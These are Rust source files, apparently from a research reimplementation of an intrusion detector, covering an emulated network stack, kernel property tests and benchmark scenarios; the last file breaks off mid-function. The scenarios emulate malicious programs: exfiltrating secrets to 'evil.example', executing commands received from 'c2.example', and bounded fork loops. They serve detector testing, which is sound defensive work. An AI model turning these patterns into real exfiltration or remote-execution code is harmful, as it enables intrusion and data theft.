    /// Renders an endpoint the way the paper's warnings do:
    /// `gateway:36982 (AF_INET)`.
    pub fn display_endpoint(&self, ep: Endpoint) -> String {
        format!("{}:{} (AF_INET)", self.display_host(ep.ip), ep.port)
    }

    /// The local host address.
    pub fn local_ip(&self) -> Ip {
        self.local_ip
    }

    // ---- socket operations -------------------------------------------------

    /// `socket()`: allocates a socket.
    pub fn socket(&mut self) -> SocketId {
        self.sockets.push(Socket::new());
        SocketId(self.sockets.len() - 1)
    }

    /// Socket accessor.
    pub fn get(&self, id: SocketId) -> Result<&Socket, NetError> {
        self.sockets.get(id.0).ok_or(NetError::BadSocket)
    }

    fn get_mut(&mut self, id: SocketId) -> Result<&mut Socket, NetError> {
        self.sockets.get_mut(id.0).ok_or(NetError::BadSocket)
    }

    /// `bind()`.
    ///
    /// # Errors
    ///
    /// [`NetError::BadState`] unless the socket is freshly created.
    pub fn bind(&mut self, id: SocketId, ep: Endpoint) -> Result<(), NetError> {
        let sock = self.get_mut(id)?;
        if sock.state != SocketState::Created {
            return Err(NetError::BadState);
        }
        sock.state = SocketState::Bound(ep);
        Ok(())
    }

    /// `listen()`.
    ///
    /// # Errors
    ///
    /// [`NetError::BadState`] unless the socket is bound.
    pub fn listen(&mut self, id: SocketId) -> Result<Endpoint, NetError> {
        let sock = self.get_mut(id)?;
        let SocketState::Bound(ep) = sock.state else {
            return Err(NetError::BadState);
        };
        sock.state = SocketState::Listening(ep);
        Ok(ep)
    }

    /// `connect()` to a scripted peer.
    ///
    /// # Errors
    ///
    /// [`NetError::Refused`] when no peer is scripted at `remote`.
    pub fn connect(&mut self, id: SocketId, remote: Endpoint) -> Result<Endpoint, NetError> {
        let local_ip = self.local_ip;
        let port = self.next_ephemeral;
        let greeting = match self.peers.get(&remote) {
            Some(peer) => peer.on_connect.clone(),
            None => return Err(NetError::Refused),
        };
        let sock = self.get_mut(id)?;
        if !matches!(sock.state, SocketState::Created | SocketState::Bound(_)) {
            return Err(NetError::BadState);
        }
        self.next_ephemeral += 1;
        let local = Endpoint { ip: local_ip, port };
        let sock = self.get_mut(id)?;
        sock.state = SocketState::Connected { local, remote, accepted: false };
        sock.peer_ref = Some(remote);
        sock.inbox.extend(greeting);
        Ok(local)
    }

    /// `accept()` on a listening socket: takes the next scripted client.
    ///
    /// # Errors
    ///
    /// [`NetError::WouldBlock`] when no client is queued;
    /// [`NetError::BadState`] when the socket is not listening.
    pub fn accept(&mut self, id: SocketId) -> Result<(SocketId, Endpoint), NetError> {
        let SocketState::Listening(local) = self.get(id)?.state else {
            return Err(NetError::BadState);
        };
        let queue = self.pending_clients.get_mut(&local.port).ok_or(NetError::WouldBlock)?;
        let client = queue.pop_front().ok_or(NetError::WouldBlock)?;
        let remote = client.from;
        let accepted_list = self.accepted_clients.entry(local.port).or_default();
        accepted_list.push(client);
        let client_idx = accepted_list.len() - 1;
        let mut sock = Socket::new();
        sock.state = SocketState::Connected { local, remote, accepted: true };
        sock.client_ref = Some((local.port, client_idx));
        self.sockets.push(sock);
        Ok((SocketId(self.sockets.len() - 1), remote))
    }

    /// `send()`: records the bytes with the far side and pulls any reply.
    ///
    /// # Errors
    ///
    /// [`NetError::BadState`] on unconnected sockets.
    pub fn send(&mut self, id: SocketId, bytes: &[u8]) -> Result<usize, NetError> {
        let (peer_ref, client_ref) = {
            let sock = self.get(id)?;
            if !matches!(sock.state, SocketState::Connected { .. }) {
                return Err(NetError::BadState);
            }
            (sock.peer_ref, sock.client_ref)
        };
        let mut reply = None;
        if let Some(remote) = peer_ref {
            if let Some(peer) = self.peers.get_mut(&remote) {
                peer.received.push(bytes.to_vec());
                reply = peer.replies.pop_front();
            }
        } else if let Some((port, idx)) = client_ref {
            if let Some(client) =
                self.accepted_clients.get_mut(&port).and_then(|list| list.get_mut(idx))
            {
                client.received.push(bytes.to_vec());
            }
        }
        if let Some(chunk) = reply {
            self.get_mut(id)?.inbox.push_back(chunk);
        }
        Ok(bytes.len())
    }

    /// `recv()`: returns up to `len` bytes from the next queued chunk.
    /// For accepted sockets, pulls the client's next scripted send when
    /// the inbox is empty.
    ///
    /// # Errors
    ///
    /// [`NetError::WouldBlock`] when no data is available.
    pub fn recv(&mut self, id: SocketId, len: usize) -> Result<Vec<u8>, NetError> {
        let client_ref = {
            let sock = self.get(id)?;
            if !matches!(sock.state, SocketState::Connected { .. }) {
                return Err(NetError::BadState);
            }
            sock.client_ref
        };
        if self.get(id)?.inbox.is_empty() {
            if let Some((port, idx)) = client_ref {
                if let Some(chunk) = self
                    .accepted_clients
                    .get_mut(&port)
                    .and_then(|list| list.get_mut(idx))
                    .and_then(|c| c.sends.pop_front())
                {
                    self.get_mut(id)?.inbox.push_back(chunk);
                }
            }
        }
        let sock = self.get_mut(id)?;
        let Some(mut chunk) = sock.inbox.pop_front() else {
            return Err(NetError::WouldBlock);
        };
        if chunk.len() > len {
            let rest = chunk.split_off(len);
            sock.inbox.push_front(rest);
        }
        Ok(chunk)
    }

    /// True when a `recv`/`accept` on this socket would make progress —
    /// the readiness predicate behind `select`.
    pub fn readable(&self, id: SocketId) -> bool {
        let Ok(sock) = self.get(id) else {
            return false;
        };
        match sock.state {
            SocketState::Listening(ep) => {
                self.pending_clients.get(&ep.port).is_some_and(|q| !q.is_empty())
            }
            SocketState::Connected { .. } => {
                if !sock.inbox.is_empty() {
                    return true;
                }
                sock.client_ref.is_some_and(|(port, idx)| {
                    self.accepted_clients
                        .get(&port)
                        .and_then(|list| list.get(idx))
                        .is_some_and(|c| !c.sends.is_empty())
                })
            }
            _ => false,
        }
    }

    /// `close()`.
    pub fn close(&mut self, id: SocketId) {
        if let Ok(sock) = self.get_mut(id) {
            sock.state = SocketState::Closed;
        }
    }

    /// Everything a scripted peer received (assertions in tests/benches).
    pub fn peer_received(&self, ep: Endpoint) -> &[Vec<u8>] {
        self.peers.get(&ep).map_or(&[], |p| &p.received)
    }

    /// Everything accepted clients on `port` received from the program.
    pub fn clients_received(&self, port: u16) -> Vec<&[u8]> {
        self.accepted_clients
            .get(&port)
            .map(|list| list.iter().flat_map(|c| c.received.iter().map(Vec::as_slice)).collect())
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ep(ip: Ip, port: u16) -> Endpoint {
        Endpoint { ip, port }
    }

    #[test]
    fn dns_resolution_and_reverse() {
        let mut net = Network::new();
        net.add_host("duero", 0x0a00_0001);
        assert_eq!(net.resolve("duero").unwrap(), 0x0a00_0001);
        assert!(net.resolve("nope").is_err());
        assert_eq!(net.display_host(0x0a00_0001), "duero");
        assert_eq!(net.display_host(0x01020304), "1.2.3.4");
        assert_eq!(net.display_endpoint(ep(0x7f00_0001, 11116)), "LocalHost:11116 (AF_INET)");
    }

    #[test]
    fn client_connect_send_recv() {
        let mut net = Network::new();
        net.add_host("evil.example", 99);
        let remote = ep(99, 40400);
        net.add_peer(
            remote,
            Peer {
                on_connect: vec![b"hello".to_vec()],
                replies: VecDeque::from([b"ok".to_vec()]),
                received: Vec::new(),
            },
        );
        let s = net.socket();
        net.connect(s, remote).unwrap();
        assert_eq!(net.recv(s, 16).unwrap(), b"hello");
        net.send(s, b"secret").unwrap();
        assert_eq!(net.recv(s, 16).unwrap(), b"ok");
        assert_eq!(net.peer_received(remote), &[b"secret".to_vec()]);
    }

    #[test]
    fn connect_refused_without_peer() {
        let mut net = Network::new();
        let s = net.socket();
        assert_eq!(net.connect(s, ep(1, 1)), Err(NetError::Refused));
    }

    #[test]
    fn server_accept_flow() {
        let mut net = Network::new();
        let listener = net.socket();
        let local = ep(net.local_ip(), 11111);
        net.bind(listener, local).unwrap();
        net.listen(listener).unwrap();
        assert_eq!(net.accept(listener), Err(NetError::WouldBlock));
        net.queue_client(
            11111,
            RemoteClient {
                from: ep(0xc0a8_0105, 37047),
                sends: VecDeque::from([b"passwd".to_vec(), b"ls\n".to_vec()]),
                received: Vec::new(),
            },
        );
        let (conn, remote) = net.accept(listener).unwrap();
        assert_eq!(remote.port, 37047);
        assert_eq!(net.recv(conn, 64).unwrap(), b"passwd");
        net.send(conn, b"ok").unwrap();
        assert_eq!(net.recv(conn, 64).unwrap(), b"ls\n");
        assert_eq!(net.clients_received(11111), vec![b"ok".as_slice()]);
    }

    #[test]
    fn recv_respects_len_and_requeues() {
        let mut net = Network::new();
        net.add_peer(ep(5, 5), Peer { on_connect: vec![b"abcdef".to_vec()], ..Peer::default() });
        let s = net.socket();
        net.connect(s, ep(5, 5)).unwrap();
        assert_eq!(net.recv(s, 4).unwrap(), b"abcd");
        assert_eq!(net.recv(s, 4).unwrap(), b"ef");
        assert_eq!(net.recv(s, 4), Err(NetError::WouldBlock));
    }

    #[test]
    fn state_machine_enforced() {
        let mut net = Network::new();
        let s = net.socket();
        assert_eq!(net.listen(s), Err(NetError::BadState));
        net.bind(s, ep(net.local_ip(), 80)).unwrap();
        assert_eq!(net.bind(s, ep(net.local_ip(), 81)), Err(NetError::BadState));
        net.listen(s).unwrap();
        assert_eq!(net.send(s, b"x"), Err(NetError::BadState));
    }

    #[test]
    fn ephemeral_ports_advance() {
        let mut net = Network::new();
        net.add_peer(ep(9, 9), Peer::default());
        let a = net.socket();
        let b = net.socket();
        let la = net.connect(a, ep(9, 9)).unwrap();
        let lb = net.connect(b, ep(9, 9)).unwrap();
        assert_ne!(la.port, lb.port);
    }
}
