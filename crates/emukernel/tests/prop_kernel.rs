//! Property-based tests for the OS substrate: VFS read/write laws, fd
//! table behaviour, FIFO queue semantics, and sockaddr round-trips.

use proptest::prelude::*;

use emukernel::{FdKind, FdTable, SocketId, Vfs};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Sequential writes at the current offset concatenate: a file
    /// behaves like a growable byte vector.
    #[test]
    fn vfs_sequential_writes_concatenate(chunks in prop::collection::vec(
        prop::collection::vec(any::<u8>(), 0..16), 0..8,
    )) {
        let mut vfs = Vfs::new();
        vfs.open_write("/f", true);
        let mut offset = 0;
        let mut expected = Vec::new();
        for chunk in &chunks {
            vfs.write("/f", offset, chunk).unwrap();
            offset += chunk.len();
            expected.extend_from_slice(chunk);
        }
        prop_assert_eq!(vfs.get("/f").unwrap().data(), expected.as_slice());
        // Reading past EOF truncates cleanly.
        let read = vfs.read("/f", 0, expected.len() + 100).unwrap();
        prop_assert_eq!(read, expected);
    }

    /// Random-offset writes then full read-back equal a Vec-based model.
    #[test]
    fn vfs_random_writes_match_model(writes in prop::collection::vec(
        (0usize..64, prop::collection::vec(any::<u8>(), 1..16)), 0..12,
    )) {
        let mut vfs = Vfs::new();
        vfs.open_write("/f", true);
        let mut model: Vec<u8> = Vec::new();
        for (offset, bytes) in &writes {
            vfs.write("/f", *offset, bytes).unwrap();
            if model.len() < *offset {
                model.resize(*offset, 0);
            }
            let end = offset + bytes.len();
            if model.len() < end {
                model.resize(end, 0);
            }
            model[*offset..end].copy_from_slice(bytes);
        }
        prop_assert_eq!(vfs.get("/f").unwrap().data(), model.as_slice());
    }

    /// FIFOs are byte queues: total bytes read equals total written, in
    /// order, regardless of chunking.
    #[test]
    fn fifo_preserves_order(
        writes in prop::collection::vec(prop::collection::vec(any::<u8>(), 1..8), 0..8),
        read_sizes in prop::collection::vec(1usize..8, 0..20),
    ) {
        let mut vfs = Vfs::new();
        vfs.mkfifo("pipe");
        let mut expected: Vec<u8> = Vec::new();
        for chunk in &writes {
            vfs.write("pipe", 0, chunk).unwrap();
            expected.extend_from_slice(chunk);
        }
        let mut got = Vec::new();
        for size in &read_sizes {
            got.extend(vfs.read("pipe", 0, *size).unwrap());
        }
        // Drain whatever is left.
        got.extend(vfs.read("pipe", 0, usize::MAX).unwrap());
        prop_assert_eq!(got, expected);
    }

    /// Fd allocation always returns the lowest free slot and never
    /// aliases two live descriptors.
    #[test]
    fn fd_table_lowest_free_no_alias(ops in prop::collection::vec(any::<bool>(), 1..40)) {
        let mut table = FdTable::new();
        let mut live: Vec<i32> = vec![0, 1, 2];
        let mut counter = 0usize;
        for alloc in ops {
            if alloc || live.is_empty() {
                let fd = table.alloc(FdKind::Socket(SocketId(counter)));
                counter += 1;
                // Lowest-free: no smaller fd may be free.
                for smaller in 0..fd {
                    prop_assert!(table.get(smaller).is_some(), "hole below fd {fd}");
                }
                prop_assert!(!live.contains(&fd));
                live.push(fd);
            } else {
                let fd = live.swap_remove(live.len() / 2);
                prop_assert!(table.close(fd).is_some());
                prop_assert!(table.get(fd).is_none());
            }
        }
        prop_assert_eq!(table.live(), live.len());
    }
}
