//! Toy shared objects: a minimal `libc.so` (trusted by the default
//! policy) and a `libX11.so` (untrusted) for the xeyes model.

/// The trusted C library. Calling conventions are register-based:
/// `ebx` carries the first argument, results return in `eax`.
///
/// * `gethostbyname(ebx=name*) -> eax=ip` — resolves through the custom
///   `SYS_resolve` syscall; Harrier short-circuits taint across it.
/// * `system(ebx=cmd*)` — like glibc, runs the command via `/bin/sh`.
///   The `/bin/sh` string lives in *libc's own data section*, so the
///   resulting `SYS_execve` event carries a `BINARY(libc.so)` origin and
///   is filtered by the trusted-binary list — reproducing the paper's
///   ElmExploit false negative (§8.3.1).
/// * `strlen(ebx=s*) -> eax=len` — convenience for workloads.
pub const LIBC_SO: &str = r#"
.global gethostbyname
.global system
.global strlen

gethostbyname:
    mov eax, 200            ; SYS_resolve
    int 0x80
    ret

system:
    ; The command string is ignored by the model beyond the event: the
    ; observable behaviour is "execve(/bin/sh)" with a libc-resident
    ; path, exactly what HTH sees when glibc's system() runs.
    mov ebx, sh_path
    mov eax, 11             ; SYS_execve
    int 0x80
    ret

strlen:
    xor eax, eax
strlen_loop:
    movb ecx, [ebx]
    cmp ecx, 0
    je strlen_done
    inc eax
    inc ebx
    jmp strlen_loop
strlen_done:
    ret

.data
sh_path: .asciz "/bin/sh"
"#;

/// A generated syscall-stub library: one `sys_<name>` entry point per
/// row of the kernel's ABI table (`emukernel::abi`), each loading the
/// syscall number and issuing `int 0x80`. This is the userspace half of
/// the single-source-of-truth ABI — workloads `call sys_pipe` instead of
/// hand-writing numbers, and a syscall added to the table gets its stub
/// here with no edits.
pub fn libsys_so() -> String {
    emukernel::stub_source()
}

/// A minimal X client library (NOT in the trusted list). `x_send_init`
/// writes the library's own hardcoded connection-setup bytes to the
/// socket in `ebx` — the source of the paper's xeyes Low-severity false
/// positives (§8.2.11).
pub const LIBX11_SO: &str = r#"
.global x_send_init

x_send_init:
    mov eax, 4              ; SYS_write
    mov ecx, xinit
    mov edx, 12
    int 0x80
    ret

.data
xinit: .byte 0x6c, 0, 11, 0, 0, 0, 0, 0, 0, 0, 0, 0
"#;
