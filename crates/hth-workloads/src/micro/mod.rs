//! Micro-benchmarks: Tables 4, 5 and 6 of the paper (§8.1).

pub mod exec_flow;
pub mod info_flow;
pub mod resource;

use crate::scenario::Scenario;

/// Every micro-benchmark scenario (Tables 4–6).
pub fn scenarios() -> Vec<Scenario> {
    let mut all = exec_flow::scenarios();
    all.extend(resource::scenarios());
    all.extend(info_flow::scenarios());
    all
}
