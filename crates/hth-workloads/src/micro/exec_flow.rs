//! Table 4 — execution-flow micro-benchmarks.
//!
//! Four programs calling `execve` with the program name originating from
//! different sources: user input (benign), hardcoded (Low), a socket
//! (High), and hardcoded-but-rarely-executed (Medium).

use emukernel::{Endpoint, Peer};
use hth_core::Severity;

use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// The four Table 4 scenarios.
pub fn scenarios() -> Vec<Scenario> {
    vec![user_input(), hardcode(), remote(), infrequent()]
}

fn user_input() -> Scenario {
    Scenario {
        id: "execve_user_input",
        group: Group::ExecFlow,
        description: "execve of a program named on the command line",
        paper_note: "correctly classified as not malicious (no warning)",
        expected: Expectation::Silent,
        setup: Box::new(|session| {
            session.kernel.register_binary(
                "/bench/execve_user",
                r"
                _start:
                    mov ebp, esp
                    mov ebx, [ebp+8]    ; argv[1]
                    mov eax, 11
                    int 0x80
                    hlt
                ",
                &[],
            );
            StartSpec::plain("/bench/execve_user").arg("/bin/true")
        }),
    }
}

fn hardcode() -> Scenario {
    Scenario {
        id: "execve_hardcode",
        group: Group::ExecFlow,
        description: "execve of a program name hardcoded in the binary",
        paper_note: "warned (Low severity)",
        expected: Expectation::Warn(Severity::Low),
        setup: Box::new(|session| {
            session.kernel.register_binary(
                "/bench/execve_hardcode",
                r#"
                _start:
                    mov eax, 11
                    mov ebx, prog
                    int 0x80
                    hlt
                .data
                prog: .asciz "/bin/ls"
                "#,
                &[],
            );
            StartSpec::plain("/bench/execve_hardcode")
        }),
    }
}

fn remote() -> Scenario {
    Scenario {
        id: "execve_remote",
        group: Group::ExecFlow,
        description: "execve of a program name received over a socket",
        paper_note: "warned (High severity)",
        expected: Expectation::Warn(Severity::High),
        setup: Box::new(|session| {
            session.kernel.net.add_host("c2.example", 0x0a00_0001);
            session.kernel.net.add_peer(
                Endpoint { ip: 0x0a00_0001, port: 9999 },
                Peer { on_connect: vec![b"/bin/ls\0".to_vec()], ..Peer::default() },
            );
            session.kernel.register_binary(
                "/bench/execve_remote",
                r"
                .equ SCRATCH, 0x09000000
                _start:
                    mov eax, 102        ; socket()
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov esi, eax
                    mov [connargs], esi
                    mov eax, 102        ; connect()
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    mov [recvargs], esi
                    mov eax, 102        ; recv() the program name
                    mov ebx, 10
                    mov ecx, recvargs
                    int 0x80
                    mov eax, 11         ; execve(name from socket)
                    mov ebx, SCRATCH
                    int 0x80
                    hlt
                .data
                sockargs: .long 2, 1, 0
                caddr:    .word 2
                cport:    .word 9999
                cip:      .long 0x0a000001
                connargs: .long 0, caddr, 8
                recvargs: .long 0, 0x09000000, 64, 0
                ",
                &[],
            );
            StartSpec::plain("/bench/execve_remote")
        }),
    }
}

fn infrequent() -> Scenario {
    Scenario {
        id: "execve_infrequent",
        group: Group::ExecFlow,
        description: "hardcoded execve executed rarely, late in the run",
        paper_note: "warned (Medium severity: hardcoded + rare + old process)",
        expected: Expectation::Warn(Severity::Medium),
        setup: Box::new(|session| {
            session.kernel.register_binary(
                "/bench/execve_infrequent",
                r#"
                _start:
                    mov eax, 162        ; nanosleep: simulate a long-lived
                    mov ebx, 300        ; process (> LONG_TIME ticks)
                    int 0x80
                    mov eax, 11
                    mov ebx, prog
                    int 0x80
                    hlt
                .data
                prog: .asciz "/bin/ls"
                "#,
                &[],
            );
            StartSpec::plain("/bench/execve_infrequent")
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table4_all_correctly_classified() {
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            assert!(
                result.correct(),
                "{}: expected {:?}, got {:?}\ntranscript:\n{}",
                scenario.id,
                scenario.expected,
                result.max_severity(),
                result.transcript,
            );
        }
    }

    #[test]
    fn remote_execve_mentions_socket_origin() {
        let result = remote().run().unwrap();
        assert!(result.transcript.contains("originated from a socket"), "{}", result.transcript);
    }

    #[test]
    fn infrequent_mentions_rarity() {
        let result = infrequent().run().unwrap();
        assert!(result.transcript.contains("rarely executed"), "{}", result.transcript);
    }
}
