//! Table 5 — resource-abuse micro-benchmarks: `loop_forker` and
//! `tree_forker` (paper §8.1.2).

use hth_core::Severity;

use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// The two Table 5 scenarios.
pub fn scenarios() -> Vec<Scenario> {
    vec![loop_forker(), tree_forker()]
}

fn loop_forker() -> Scenario {
    Scenario {
        id: "loop_forker",
        group: Group::ResourceAbuse,
        description: "one main thread forks repeatedly; children idle",
        paper_note: "detected: process-count threshold and creation rate",
        expected: Expectation::Rules(Severity::Medium, &["check_clone_count", "check_clone_rate"]),
        setup: Box::new(|session| {
            session.kernel.register_binary(
                "/bench/loop_forker",
                r"
                _start:
                    mov edi, 25
                main_loop:
                    mov eax, 2          ; fork
                    int 0x80
                    cmp eax, 0
                    je child
                    dec edi
                    cmp edi, 0
                    jne main_loop
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                child:
                    mov eax, 162        ; nanosleep(1)
                    mov ebx, 1
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/bench/loop_forker")
        }),
    }
}

fn tree_forker() -> Scenario {
    Scenario {
        id: "tree_forker",
        group: Group::ResourceAbuse,
        description: "fork tree: parent and child both keep forking",
        paper_note: "detected: process-count threshold and creation rate",
        expected: Expectation::Rules(Severity::Medium, &["check_clone_count", "check_clone_rate"]),
        setup: Box::new(|session| {
            session.kernel.register_binary(
                "/bench/tree_forker",
                r"
                _start:
                    mov edi, 5
                tloop:
                    mov eax, 2          ; fork: BOTH sides continue
                    int 0x80
                    dec edi
                    cmp edi, 0
                    jne tloop
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/bench/tree_forker")
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table5_both_detected() {
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            assert!(
                result.correct(),
                "{}: rules fired {:?}, transcript:\n{}",
                scenario.id,
                result.rules_fired(),
                result.transcript,
            );
        }
    }

    #[test]
    fn loop_forker_spawns_many_processes() {
        let result = loop_forker().run().unwrap();
        assert!(result.report.exited.len() >= 20, "exits: {:?}", result.report.exited.len());
    }
}
