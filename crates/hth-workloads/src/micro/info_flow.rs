//! Table 6 — information-flow micro-benchmarks.
//!
//! A small code generator assembles one program per (source, target,
//! identifier-origin) combination: data is acquired from a binary
//! literal, a file, a socket, the hardware (`cpuid`) or the console,
//! then written to a file or a socket whose name/address is hardcoded,
//! user-supplied or received from a remote host. Socket rows also come
//! in a *server* variant (bind/listen/accept), as in the paper.

use emukernel::{Endpoint, Peer, RemoteClient};
use hth_core::{Session, Severity};

use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// Where a resource identifier (file name / socket address) comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NameOrigin {
    /// Command line (file names) or stdin (socket addresses).
    User,
    /// The program's own data section.
    Hardcoded,
    /// Received over a control socket.
    Remote,
}

/// Data source half of a flow.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FlowSource {
    /// Hardcoded bytes from the binary.
    Binary,
    /// Contents of a file whose name has the given origin.
    File(NameOrigin),
    /// Bytes received from a connected socket (client side).
    Socket(NameOrigin),
    /// Bytes received on an accepted connection (server side,
    /// hardcoded listening address).
    SocketServer,
    /// `cpuid` output.
    Hardware,
    /// Console input.
    UserInput,
}

/// Data target half of a flow.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FlowTarget {
    /// A file whose name has the given origin.
    File(NameOrigin),
    /// A connected socket (client side).
    Socket(NameOrigin),
    /// An accepted connection (server side, hardcoded listening address).
    SocketServer,
}

const SCRATCH: &str = "0x09000000";
const NAMEBUF: &str = "0x09010000";
const ADDRBUF: &str = "0x09020000";
const DATA_LEN: u32 = 12;

/// Remote control peer (serves file names for `NameOrigin::Remote`).
const CTRL_IP: u32 = 0x0a00_00cc;
const CTRL_PORT: u16 = 7777;
/// Data peer for client-socket sources/targets with hardcoded address.
const PEER_IP: u32 = 0x0a00_0042;
const PEER_PORT: u16 = 4040;
/// Listening port for server variants.
const SERVE_PORT: u16 = 11111;

/// Accumulates generated code and environment requirements.
#[derive(Default)]
struct Gen {
    code: String,
    data: String,
    argv: Vec<String>,
    stdin: Vec<Vec<u8>>,
    files: Vec<(String, Vec<u8>)>,
    want_ctrl_peer: bool,
    want_data_peer_sends: Option<Vec<u8>>,
    want_client: Option<Vec<Vec<u8>>>,
}

impl Gen {
    fn emit(&mut self, code: &str) {
        self.code.push_str(code);
        self.code.push('\n');
    }

    fn data(&mut self, data: &str) {
        self.data.push_str(data);
        self.data.push('\n');
    }

    fn next_argv(&mut self, value: &str) -> usize {
        self.argv.push(value.to_string());
        self.argv.len() // argv[0] is the program itself; index in argv[]
    }

    /// Emits code leaving a file-name pointer in `ebx`.
    fn file_name(&mut self, origin: NameOrigin, default_name: &str, label: &str) {
        match origin {
            NameOrigin::Hardcoded => {
                self.data(&format!("{label}: .asciz \"{default_name}\""));
                self.emit(&format!("    mov ebx, {label}"));
            }
            NameOrigin::User => {
                let idx = self.next_argv(default_name);
                self.emit(&format!("    mov ebx, [ebp+{}]", 4 + 4 * idx));
            }
            NameOrigin::Remote => {
                self.want_ctrl_peer = true;
                self.connect_socket("ctl", CTRL_IP, CTRL_PORT, "edx");
                self.emit(&format!(
                    "    ; receive the file name from the control host\n\
                     \x20   mov [ctl_recv], edx\n\
                     \x20   mov eax, 102\n\
                     \x20   mov ebx, 10\n\
                     \x20   mov ecx, ctl_recv\n\
                     \x20   int 0x80\n\
                     \x20   mov ebx, {NAMEBUF}"
                ));
                self.data(&format!("ctl_recv: .long 0, {NAMEBUF}, 64, 0"));
            }
        }
    }

    /// Emits socket()+connect() to a hardcoded endpoint; fd in `fd_reg`.
    fn connect_socket(&mut self, prefix: &str, ip: u32, port: u16, fd_reg: &str) {
        self.data(&format!(
            "{prefix}_sa: .long 2, 1, 0\n\
             {prefix}_ad: .word 2\n\
             {prefix}_po: .word {port}\n\
             {prefix}_ip: .long {ip:#x}\n\
             {prefix}_cn: .long 0, {prefix}_ad, 8"
        ));
        self.emit(&format!(
            "    mov eax, 102\n\
             \x20   mov ebx, 1\n\
             \x20   mov ecx, {prefix}_sa\n\
             \x20   int 0x80\n\
             \x20   mov {fd_reg}, eax\n\
             \x20   mov [{prefix}_cn], {fd_reg}\n\
             \x20   mov eax, 102\n\
             \x20   mov ebx, 3\n\
             \x20   mov ecx, {prefix}_cn\n\
             \x20   int 0x80"
        ));
    }

    /// Emits socket()+connect() to an address read from stdin; fd in
    /// `fd_reg`. The sockaddr bytes arrive as one stdin chunk.
    fn connect_socket_user(&mut self, prefix: &str, ip: u32, port: u16, fd_reg: &str) {
        let mut sockaddr = Vec::new();
        sockaddr.extend_from_slice(&2u16.to_le_bytes());
        sockaddr.extend_from_slice(&port.to_le_bytes());
        sockaddr.extend_from_slice(&ip.to_le_bytes());
        self.stdin.push(sockaddr);
        self.data(&format!(
            "{prefix}_sa: .long 2, 1, 0\n\
             {prefix}_cn: .long 0, {ADDRBUF}, 8"
        ));
        self.emit(&format!(
            "    ; the user types the destination address\n\
             \x20   mov eax, 3\n\
             \x20   mov ebx, 0\n\
             \x20   mov ecx, {ADDRBUF}\n\
             \x20   mov edx, 8\n\
             \x20   int 0x80\n\
             \x20   mov eax, 102\n\
             \x20   mov ebx, 1\n\
             \x20   mov ecx, {prefix}_sa\n\
             \x20   int 0x80\n\
             \x20   mov {fd_reg}, eax\n\
             \x20   mov [{prefix}_cn], {fd_reg}\n\
             \x20   mov eax, 102\n\
             \x20   mov ebx, 3\n\
             \x20   mov ecx, {prefix}_cn\n\
             \x20   int 0x80"
        ));
    }

    /// Emits bind/listen/accept on the hardcoded serve port; accepted fd
    /// in `fd_reg`.
    fn accept_socket(&mut self, prefix: &str, fd_reg: &str) {
        self.data(&format!(
            "{prefix}_sa: .long 2, 1, 0\n\
             {prefix}_ad: .word 2\n\
             {prefix}_po: .word {SERVE_PORT}\n\
             {prefix}_ip: .long 0\n\
             {prefix}_bn: .long 0, {prefix}_ad, 8\n\
             {prefix}_ls: .long 0, 1\n\
             {prefix}_ac: .long 0, 0, 0"
        ));
        self.emit(&format!(
            "    mov eax, 102\n\
             \x20   mov ebx, 1\n\
             \x20   mov ecx, {prefix}_sa\n\
             \x20   int 0x80\n\
             \x20   mov {fd_reg}, eax\n\
             \x20   mov [{prefix}_bn], {fd_reg}\n\
             \x20   mov eax, 102\n\
             \x20   mov ebx, 2          ; bind\n\
             \x20   mov ecx, {prefix}_bn\n\
             \x20   int 0x80\n\
             \x20   mov [{prefix}_ls], {fd_reg}\n\
             \x20   mov eax, 102\n\
             \x20   mov ebx, 4          ; listen\n\
             \x20   mov ecx, {prefix}_ls\n\
             \x20   int 0x80\n\
             \x20   mov [{prefix}_ac], {fd_reg}\n\
             \x20   mov eax, 102\n\
             \x20   mov ebx, 5          ; accept\n\
             \x20   mov ecx, {prefix}_ac\n\
             \x20   int 0x80\n\
             \x20   mov {fd_reg}, eax"
        ));
    }

    /// Emits source acquisition; returns the buffer expression to write.
    fn source(&mut self, source: FlowSource) -> String {
        match source {
            FlowSource::Binary => {
                self.data("blob: .asciz \"MALPAYLOAD!\"");
                "blob".to_string()
            }
            FlowSource::File(origin) => {
                self.files.push(("secret.dat".to_string(), b"TOP-SECRET-A".to_vec()));
                self.file_name(origin, "secret.dat", "spath");
                self.emit(&format!(
                    "    mov eax, 5          ; open(source, O_RDONLY)\n\
                     \x20   mov ecx, 0\n\
                     \x20   int 0x80\n\
                     \x20   mov edi, eax\n\
                     \x20   mov eax, 3          ; read\n\
                     \x20   mov ebx, edi\n\
                     \x20   mov ecx, {SCRATCH}\n\
                     \x20   mov edx, {DATA_LEN}\n\
                     \x20   int 0x80"
                ));
                SCRATCH.to_string()
            }
            FlowSource::Socket(origin) => {
                self.want_data_peer_sends = Some(b"REMOTE-BYTES".to_vec());
                match origin {
                    NameOrigin::User => self.connect_socket_user("src", PEER_IP, PEER_PORT, "edi"),
                    _ => self.connect_socket("src", PEER_IP, PEER_PORT, "edi"),
                }
                self.data(&format!("src_rv: .long 0, {SCRATCH}, {DATA_LEN}, 0"));
                self.emit(
                    "    mov [src_rv], edi\n\
                     \x20   mov eax, 102\n\
                     \x20   mov ebx, 10         ; recv\n\
                     \x20   mov ecx, src_rv\n\
                     \x20   int 0x80",
                );
                SCRATCH.to_string()
            }
            FlowSource::SocketServer => {
                self.want_client = Some(vec![b"ATTACKERCMD!".to_vec()]);
